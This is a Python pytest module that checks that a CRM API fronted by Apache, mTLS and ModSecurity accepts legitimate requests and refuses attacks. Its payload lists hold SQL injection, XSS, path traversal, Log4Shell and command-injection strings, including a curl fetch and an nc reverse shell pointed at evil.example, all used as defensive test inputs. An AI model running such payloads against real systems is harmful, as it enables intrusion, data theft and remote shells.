"""The CRM API (/api/v1) through the real front door: Apache (mTLS, CRL, ModSecurity with the CRS's
JSON body processor) -> gunicorn -> the app -> keyd, one stack for the module (tests/apache/stack.py).

- legitimate calls pass ModSecurity (names with apostrophes, CRM numbers, card numbers, expiries);
- an injection inside any JSON field is refused by ModSecurity (403 problem+json from Apache,
  request-blocked), audited in ModSecurity's audit log and never reaching the app (no audit row of
  the app's, nothing stored);
- the identities the API refuses (a person's certificate, a revoked service certificate, a disabled
  service account, a session cookie, a reused Idempotency-Key), each with its problem type;
- schemathesis: cases generated from the OpenAPI document, sent through Apache with the service
  certificate: no 5xx, every response as the contract says, nothing stored by a refused call.
"""

from __future__ import annotations

import http.client
import json
import ssl
import time
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import schemathesis
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from clients.crm import ApiError, CrmClient
from tests.apache.stack import Stack, running_stack, traversable_dir
from tests.support import LogMark

ROOT = Path(__file__).resolve().parents[2]
OPENAPI = ROOT / "webapp" / "api" / "openapi.json"
PROBLEMS = "https://strongroom.invalid/problems/"
# The name the CRM uses: an IP address as Host scores in the CRS (920350) by itself.
HOST = "localhost"
CRM = "crm"  # the stack's service account (role crm), bound to its service certificate
PERSON = "alice"
PERSON_PASSWORD = "Quartz-Lantern-Mosaic-4817"
NEXT_YEAR = datetime.now(UTC).year + 1
# Test card numbers (Luhn-valid, the brands' published test numbers).
VISA, MASTERCARD, AMEX = "4111111111111111", "5555555555554444", "378282246310005"


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    with traversable_dir("apache-api-") as d, running_stack(d / "stack") as running:
        running.add_service(CRM)
        running.add_user(PERSON, "clerk", PERSON_PASSWORD)
        yield running


# --- a client: http.client over TLS with the service certificate, keep-alive off -----------------


class Answer:
    def __init__(self, status: int, headers: http.client.HTTPMessage, body: bytes) -> None:
        self.status, self.headers, self.body = status, headers, body

    @property
    def content_type(self) -> str:
        return self.headers.get("Content-Type", "")

    def json(self) -> Any:
        return json.loads(self.body)

    @property
    def problem(self) -> str:
        """The problem type's slug of a problem+json answer."""
        assert self.content_type.startswith("application/problem+json"), (self.status, self.body[:300])
        type_uri = str(self.json()["type"])
        assert type_uri.startswith(PROBLEMS), type_uri
        return type_uri.removeprefix(PROBLEMS)


def call(
    stack: Stack,
    method: str,
    path: str,
    body: Any = None,
    *,
    who: str = CRM,
    key: str | None = None,
    raw: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> Answer:
    """One request to /api/v1`path`; a POST gets a fresh Idempotency-Key unless `key` is given."""
    all_headers = {"Host": HOST, "Accept": "application/json", **(headers or {})}
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    if method == "POST":
        all_headers.setdefault("Idempotency-Key", key or uuid.uuid4().hex)
        if data is None:
            data = b"{}"
    if data is not None:
        all_headers.setdefault("Content-Type", "application/json")
    conn = stack.connection(who)
    try:
        conn.request(method, "/api/v1" + path, body=data, headers=all_headers)
        resp = conn.getresponse()
        return Answer(resp.status, resp.headers, resp.read())
    finally:
        conn.close()


def counts(stack: Stack) -> dict[str, int]:
    """Rows of what the app stores and what it audits."""
    engine = sa.create_engine(stack.db_url)
    try:
        with engine.connect() as conn:
            return {
                t: int(conn.execute(sa.text(f"SELECT COUNT(*) FROM {t}")).scalar_one())  # noqa: S608 - fixed names
                for t in ("customer_records", "cards", "api_idempotency", "audit_log")
            }
    finally:
        engine.dispose()


def stored(stack: Stack) -> dict[str, int]:
    """What a refused call must not change (it is audited, so audit_log is not in it)."""
    return {k: v for k, v in counts(stack).items() if k != "audit_log"}


def new_record(stack: Stack, crm_ref: str | None = None) -> int:
    crm_ref = crm_ref or f"C{uuid.uuid4().int % 10**9:09d}"
    answer = call(stack, "POST", "/records", {"crm_ref": crm_ref})
    assert answer.status == 201, answer.body[:300]
    return int(answer.json()["id"])


# --- legitimate calls: no false positives -----------------------------------------------------------

LEGITIMATE_CARDS = [
    pytest.param(VISA, "Siobhán O'Brien", 12, "visa", id="apostrophe"),
    pytest.param(MASTERCARD, "Jean-Luc D'Arcy-Smith", 1, "mastercard", id="apostrophe-and-hyphens"),
    pytest.param(AMEX, "Mary O'Neil Jr.", 7, "amex", id="amex-initial-dot"),
    pytest.param(VISA, "Zoë Ångström", 2, "visa", id="accents"),
    pytest.param(MASTERCARD, "O'Connor O'Malley", 11, "mastercard", id="two-apostrophes"),
    pytest.param(VISA, "D'Or", 3, "visa", id="short-apostrophe"),
]


def crm_client(stack: Stack, name: str = CRM) -> CrmClient:
    """The reference client (clients/crm.py) as the CRM runs it, with `name`'s service certificate."""
    cert, key = stack.service_client(name)
    return CrmClient(HOST, stack.port, cert=str(cert), key=str(key), ca=str(stack.ca_file), retries=0)


@pytest.mark.parametrize(("pan", "cardholder", "month", "brand"), LEGITIMATE_CARDS)
def test_a_legitimate_card_passes_the_front_door(
    stack: Stack, pan: str, cardholder: str, month: int, brand: str
) -> None:
    errors = LogMark(stack.apache_error_log)
    api = crm_client(stack)
    record = api.add_record(f"C{uuid.uuid4().int % 10**9:09d}")
    card = api.add_card(record["id"], pan=pan, cardholder=cardholder, exp_month=month, exp_year=NEXT_YEAR)
    assert card["last4"] == pan[-4:]
    assert card["brand"].lower() == brand
    assert pan not in json.dumps(card)
    listed = list(api.iter_cards(record["id"]))
    assert [c["id"] for c in listed] == [card["id"]]
    assert pan not in json.dumps(listed)
    retired = api.retire_card(record["id"], card["id"])
    assert retired["retired"] is True
    time.sleep(0.1)
    assert "ModSecurity" not in errors.new()  # not even a warning


@pytest.mark.parametrize("crm_ref", ["C000123", "C1234567890", "C987654"])
def test_records_by_crm_number_pass_the_front_door(stack: Stack, crm_ref: str) -> None:
    errors = LogMark(stack.apache_error_log)
    api = crm_client(stack)
    record = api.add_record(crm_ref)
    found = api.find_records(crm_ref)
    assert record["id"] in [r["id"] for r in found["records"]]
    assert api.get_record(record["id"])["crm_ref"] == crm_ref
    assert api.openapi()["openapi"].startswith("3.1")
    time.sleep(0.1)
    assert "ModSecurity" not in errors.new()


def test_a_legitimate_bulk_import_passes_the_front_door(stack: Stack) -> None:
    errors = LogMark(stack.apache_error_log)
    rows = [
        {"crm_ref": f"C{7000000 + i}", "cardholder": name, "pan": pan, "expiry": f"0{i + 1}/{NEXT_YEAR}"}
        for i, (pan, name) in enumerate(
            [(VISA, "Siobhán O'Brien"), (MASTERCARD, "Jean-Luc D'Arcy-Smith"), (AMEX, "Mary O'Neil Jr.")]
        )
    ]
    answer = call(stack, "POST", "/imports", {"rows": rows})
    assert answer.status == 200, answer.body[:300]
    assert answer.json()["accepted"] == 3
    assert not any(pan.encode() in answer.body for pan in (VISA, MASTERCARD, AMEX))
    time.sleep(0.1)
    assert "ModSecurity" not in errors.new()


def test_a_retry_with_the_same_key_is_replayed_through_apache(stack: Stack) -> None:
    record_id = new_record(stack)
    body = {"pan": VISA, "cardholder": "Ada O'Lovelace", "exp_month": 5, "exp_year": NEXT_YEAR}
    key = "retry-" + uuid.uuid4().hex
    first = call(stack, "POST", f"/records/{record_id}/cards", body, key=key)
    before = counts(stack)
    again = call(stack, "POST", f"/records/{record_id}/cards", body, key=key)
    assert first.status == again.status == 201
    assert again.json() == first.json()
    assert again.headers.get("Idempotent-Replayed") == "true"
    assert stored(stack) == {k: v for k, v in before.items() if k != "audit_log"}


# --- injections inside JSON fields: ModSecurity's 403 ------------------------------------------------

SQLI = ["1' OR '1'='1", "x' UNION SELECT pan FROM cards-- -", "'; DROP TABLE cards; --", "1 AND SLEEP(5)"]
XSS = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg/onload=alert(document.cookie)>"]
CMD = ["; cat /etc/passwd", "$(curl http://evil.example/x)", "| nc -e /bin/sh evil.example 4444"]
OTHER = ["../../../../etc/passwd", "${jndi:ldap://evil.example/a}"]
PAYLOADS = (
    [pytest.param(p, id=f"sqli-{i}") for i, p in enumerate(SQLI)]
    + [pytest.param(p, id=f"xss-{i}") for i, p in enumerate(XSS)]
    + [pytest.param(p, id=f"cmd-{i}") for i, p in enumerate(CMD)]
    + [pytest.param(p, id=f"other-{i}") for i, p in enumerate(OTHER)]
)
# Each field of each body the API takes, with legitimate values around the hostile one: (path, the
# body with the payload in its place, the argument name ModSecurity 2.9.7 gives that JSON value).
CARD = {"pan": VISA, "cardholder": "Ada Lovelace", "exp_month": 12, "exp_year": NEXT_YEAR}
ROW = {"crm_ref": "C000123", "cardholder": "Ada Lovelace", "pan": VISA, "expiry": f"12/{NEXT_YEAR}"}


def _in_card(name: str) -> Callable[[str], dict[str, Any]]:
    return lambda payload: {**CARD, name: payload}


def _in_second_row(name: str) -> Callable[[str], dict[str, Any]]:
    return lambda payload: {"rows": [ROW, {**ROW, name: payload}]}


FIELDS = [
    pytest.param("/records", lambda payload: {"crm_ref": payload}, "crm_ref", id="record.crm_ref"),
    *(pytest.param("/records/{record}/cards", _in_card(n), n, id=f"card.{n}") for n in CARD),
    *(pytest.param("/imports", _in_second_row(n), f"rows.rows.{n}", id=f"import.rows.{n}") for n in ROW),
]


def assert_blocked_by_modsecurity(stack: Stack, answer: Answer, audit: LogMark, payload: str) -> None:
    assert answer.status == 403, answer.body[:300]
    assert answer.problem == "request-blocked"
    assert answer.json()["status"] == 403
    assert payload.encode() not in answer.body  # nothing echoed
    # ModSecurity's audit log has the denial (parts A, H, Z: no request line, no body).
    record = audit.wait_for(lambda t: "-Z--" in t and "Access denied with code 403" in t)
    assert "Access denied with code 403" in record, record[-2000:]
    assert payload not in record


@pytest.mark.parametrize(("path", "body", "arg"), FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_injection_in_a_json_field_is_blocked_by_modsecurity(
    stack: Stack, path: str, body: Callable[[str], dict[str, Any]], arg: str, payload: str
) -> None:
    record_id = new_record(stack) if "{record}" in path else 0
    before = counts(stack)
    audit = LogMark(stack.modsec_audit_log)
    errors = LogMark(stack.apache_error_log)
    answer = call(stack, "POST", path.format(record=record_id), body(payload))
    assert_blocked_by_modsecurity(stack, answer, audit, payload)
    # The app never saw it: it audits every request it gets, and this one left no row, nothing stored.
    assert counts(stack) == before
    logged = errors.wait_for(lambda t: "Access denied" in t)
    assert f"ARGS:{arg}" in logged  # the CRS looked inside the JSON field
    assert payload not in logged


@pytest.mark.parametrize("payload", [SQLI[0], XSS[0], CMD[0]])
def test_an_injection_in_a_json_body_labelled_otherwise_is_still_inspected(
    stack: Stack, payload: str
) -> None:
    """crs-setup.conf's warning: JSON sent as text/plain would bypass a processor chosen by the
    Content-Type. On /api/v1 the JSON processor parses every body, whatever it claims to be."""
    before = counts(stack)
    audit = LogMark(stack.modsec_audit_log)
    errors = LogMark(stack.apache_error_log)
    answer = call(stack, "POST", "/records", {"crm_ref": payload}, headers={"Content-Type": "text/plain"})
    assert_blocked_by_modsecurity(stack, answer, audit, payload)
    assert counts(stack) == before
    assert "ARGS:crm_ref" in errors.wait_for(lambda t: "ARGS:crm_ref" in t)


@pytest.mark.parametrize(
    ("content_type", "raw"),
    [
        pytest.param("application/x-www-form-urlencoded", b"crm_ref=C000123", id="form"),
        pytest.param(
            "multipart/form-data; boundary=x",
            b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
            id="multipart",
        ),
        pytest.param("text/xml", b"<crm_ref>C000123</crm_ref>", id="xml"),
    ],
)
def test_the_api_takes_json_only(stack: Stack, content_type: str, raw: bytes) -> None:
    before = counts(stack)
    answer = call(stack, "POST", "/records", raw=raw, headers={"Content-Type": content_type})
    assert answer.status in (400, 403), answer.body[:300]  # 920420, or the JSON processor's parse error
    assert answer.problem in ("request-blocked", "body-malformed")
    assert counts(stack) == before


@pytest.mark.parametrize(
    ("raw", "problem"),
    [
        pytest.param(b"{not json", "body-malformed", id="not-json"),
        pytest.param(
            json.dumps({"crm_ref": "C000123", "x": "a" * 70_000}).encode(), "body-too-large", id="over-64k"
        ),
        pytest.param(b'{"a":' * 12 + b"1" + b"}" * 12, "body-malformed", id="too-deep"),
        pytest.param(
            json.dumps({f"k{i}": "v" for i in range(1200)}).encode(), "body-malformed", id="too-many-fields"
        ),
    ],
)
def test_bodies_modsecurity_cannot_inspect_are_refused(stack: Stack, raw: bytes, problem: str) -> None:
    before = counts(stack)
    headers = {"Transfer-Encoding": "chunked"} if len(raw) > 65536 else None
    answer = (
        call(stack, "POST", "/records", raw=raw, headers=headers) if headers is None else _chunked(stack, raw)
    )
    assert answer.status in (400, 413), answer.body[:300]
    assert answer.problem == problem
    assert counts(stack) == before


def _chunked(stack: Stack, raw: bytes) -> Answer:
    """A body sent chunked: its size is only known to Apache as it reads it (the limit still holds)."""
    conn = stack.connection(CRM)
    try:
        conn.putrequest("POST", "/api/v1/records", skip_host=True)
        for name, value in (
            ("Host", HOST),
            ("Content-Type", "application/json"),
            ("Idempotency-Key", uuid.uuid4().hex),
            ("Transfer-Encoding", "chunked"),
        ):
            conn.putheader(name, value)
        conn.endheaders()
        for i in range(0, len(raw), 16384):
            chunk = raw[i : i + 16384]
            conn.send(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
        conn.send(b"0\r\n\r\n")
        resp = conn.getresponse()
        return Answer(resp.status, resp.headers, resp.read())
    finally:
        conn.close()


def test_json_to_a_browser_path_is_refused(stack: Stack) -> None:
    conn = stack.connection(PERSON)
    try:
        conn.request(
            "POST",
            "/login",
            body=b'{"username":"alice"}',
            headers={"Host": HOST, "Content-Type": "application/json"},
        )
        resp = conn.getresponse()
        resp.read()
    finally:
        conn.close()
    assert resp.status == 403  # CRS 920420: forms only outside /api/v1


def test_other_methods_are_refused_as_problems(stack: Stack) -> None:
    answer = call(stack, "PUT", "/records", {"crm_ref": "C000123"})
    assert answer.status == 405
    assert answer.problem == "method-not-allowed"


# --- the identities and requests the API refuses -------------------------------------------------------


def test_a_persons_certificate_is_refused_on_the_api(stack: Stack) -> None:
    before = stored(stack)
    looked = call(stack, "GET", "/records?crm_ref=C000123", who=PERSON)
    assert looked.status == 403
    assert looked.problem == "person-certificate"
    added = call(stack, "POST", "/records", {"crm_ref": "C000124"}, who=PERSON)
    assert added.status == 403
    assert added.problem == "person-certificate"
    assert stored(stack) == before


def test_a_disabled_service_account_is_refused_at_once(stack: Stack) -> None:
    stack.add_service("crm-disabled")
    api = crm_client(stack, "crm-disabled")
    api.find_records("C000123")  # works while enabled
    stack.admin_cli("users", "disable", "crm-disabled")
    before = stored(stack)
    with pytest.raises(ApiError) as refused:
        api.add_record("C000125")
    assert (refused.value.status, refused.value.slug) == (403, "account-disabled")
    with pytest.raises(ApiError) as refused:
        api.find_records("C000123")
    assert (refused.value.status, refused.value.slug) == (403, "account-disabled")
    assert stored(stack) == before


def test_a_revoked_service_certificate_is_refused_in_the_handshake(stack: Stack) -> None:
    stack.add_service("crm-revoked")
    assert call(stack, "GET", "/records?crm_ref=C000123", who="crm-revoked").status == 200
    before = stored(stack)
    stack.revoke("crm-revoked")  # a new CRL, Apache reloaded gracefully, as ca/'s hook does
    for version in (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3):
        ctx = stack.ssl_context("crm-revoked")
        ctx.minimum_version = ctx.maximum_version = version
        conn = http.client.HTTPSConnection("127.0.0.1", stack.port, context=ctx, timeout=10)
        with pytest.raises((ssl.SSLError, ConnectionError, OSError)):
            _get_over(conn)
        conn.close()
    assert stored(stack) == before
    assert call(stack, "GET", "/records?crm_ref=C000123").status == 200  # the CRM's own still works


def _get_over(conn: http.client.HTTPSConnection) -> None:
    conn.request("GET", "/api/v1/records?crm_ref=C000123", headers={"Host": HOST})
    conn.getresponse().read()  # TLS 1.3 reports the refused certificate at the first read


@pytest.mark.parametrize(
    "cookie",
    ["__Host-strongroom=anything", "theme=dark; __Host-strongroom=x", "__Host-strongroom="],
)
def test_the_browser_session_cookie_is_refused_on_the_api(stack: Stack, cookie: str) -> None:
    before = stored(stack)
    for method, path, body in (
        ("GET", "/records?crm_ref=C000123", None),
        ("POST", "/records", {"crm_ref": "C000126"}),
    ):
        answer = call(stack, method, path, body, headers={"Cookie": cookie})
        assert answer.status == 400, answer.body[:300]
        assert answer.problem == "session-cookie-refused"
    assert stored(stack) == before


def test_a_reused_idempotency_key_with_another_body_is_refused(stack: Stack) -> None:
    record_id = new_record(stack)
    key = "reuse-" + uuid.uuid4().hex
    first = call(
        stack, "POST", f"/records/{record_id}/cards", {**CARD, "cardholder": "Ada Lovelace"}, key=key
    )
    assert first.status == 201
    before = stored(stack)
    for other in ({**CARD, "cardholder": "Grace Hopper"}, {**CARD, "pan": MASTERCARD}):
        answer = call(stack, "POST", f"/records/{record_id}/cards", other, key=key)
        assert answer.status == 422, answer.body[:300]
        assert answer.problem == "idempotency-key-reused"
    other_route = call(stack, "POST", "/records", {"crm_ref": "C000127"}, key=key)
    assert other_route.problem == "idempotency-key-reused"
    assert stored(stack) == before


# --- the contract: schemathesis through the front door --------------------------------------------------

# Bounded and reproducible: at most this many generated cases per operation and mode, derandomized
# (Hypothesis derives the seed from the test's name, so every run sends the same cases), no deadline
# (a request through Apache and keyd is not a unit test's microseconds).
MAX_EXAMPLES = 50
CONTRACT_CHECKS = [
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
]


@pytest.fixture(scope="module")
def api_schema(stack: Stack) -> Any:
    """The repository's OpenAPI document (the one the app serves), aimed at the stack's Apache."""
    cert, key = stack.service_client(CRM)
    schema = schemathesis.openapi.from_path(OPENAPI)
    schema.config.update(
        base_url=f"https://127.0.0.1:{stack.port}/api/v1",
        tls_verify=str(stack.ca_file),
        request_cert=str(cert),
        request_cert_key=str(key),
        headers={"Host": HOST},
    )
    return schema


@pytest.fixture(scope="module")
def existing(stack: Stack) -> dict[str, Any]:
    """A record of the CRM's with one card, for the cases that should find something."""
    api = crm_client(stack)
    record = api.add_record("C000999")
    card = api.add_card(record["id"], pan=VISA, cardholder="Ada Lovelace", exp_month=12, exp_year=NEXT_YEAR)
    return {"record_id": record["id"], "card_id": card["id"]}


# schemathesis's own pytest integration (`schemathesis.pytest.from_fixture`) reads a pytest internal
# that pytest 9 no longer has (Function._nodeid): the operations are parametrized here instead, each
# run with Hypothesis's @given on the operation's strategy, positive and negative cases apart.
# Negative cases only where there is something to break (GET /openapi.json takes nothing).
CASES = [
    pytest.param(method.upper(), path, mode, id=f"{method.upper()} {path} {mode}")
    for path, item in json.loads(OPENAPI.read_text())["paths"].items()
    for method, operation in item.items()
    if method in ("get", "post")
    for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE)
    if mode is GenerationMode.POSITIVE or operation.get("parameters") or operation.get("requestBody")
] + [
    # Random ids find nothing (404): these run again on a record and card that exist, so answers
    # with bodies (200, 201, 409 read-only after the retire) are held to their schemas too.
    pytest.param(method.upper(), path, "existing", id=f"{method.upper()} {path} existing")
    for path, item in json.loads(OPENAPI.read_text())["paths"].items()
    for method in item
    if method in ("get", "post") and "{record_id}" in path
]


@pytest.mark.parametrize(("method", "path", "mode"), CASES)
def test_every_answer_through_apache_is_the_contracts(
    stack: Stack,
    api_schema: Any,
    existing: dict[str, Any],
    method: str,
    path: str,
    mode: GenerationMode | str,
) -> None:
    operation = api_schema.find_operation_by_path(method, path)
    assert operation is not None, (method, path)
    sent: list[int] = []
    if mode == "existing":
        ids = {k: v for k, v in existing.items() if "{" + k + "}" in path}
        strategy = operation.as_strategy(GenerationMode.POSITIVE, path_parameters=ids)
    else:
        strategy = operation.as_strategy(generation_mode=mode)

    @given(case=strategy)
    @settings(
        max_examples=MAX_EXAMPLES, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck)
    )
    def one(case: Any) -> None:
        before = stored(stack)
        response = case.call(timeout=30)
        sent.append(response.status_code)
        case.validate_response(response, checks=CONTRACT_CHECKS)
        if response.status_code >= 400:
            assert stored(stack) == before, f"a refused call ({response.status_code}) changed what is stored"

    one()
    assert sent  # the strategy generated cases and each got an answer
